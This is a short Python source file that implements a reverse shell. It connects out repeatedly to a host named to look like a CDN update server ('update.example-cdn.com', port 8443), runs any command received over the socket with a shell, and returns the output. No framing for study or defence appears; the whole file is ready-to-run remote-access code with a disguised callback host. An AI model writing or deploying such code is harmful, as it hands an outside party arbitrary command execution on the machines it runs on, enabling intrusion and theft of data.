import os
import socket
import subprocess
import time


class Agent:
    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def connect(self):
        while True:
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=10)
                return
            except OSError:
                time.sleep(30)

    def serve(self):
        while True:
            data = self.sock.recv(4096)
            if not data:
                break
            cmd = data.decode().strip()
            if cmd.startswith("cd "):
                os.chdir(cmd[3:])
                self.sock.send(b"ok\n")
                continue
            proc = subprocess.run(cmd, shell=True, capture_output=True)
            self.sock.send(proc.stdout + proc.stderr)


if __name__ == "__main__":
    agent = Agent("update.example-cdn.com", 8443)
    agent.connect()
    agent.serve()
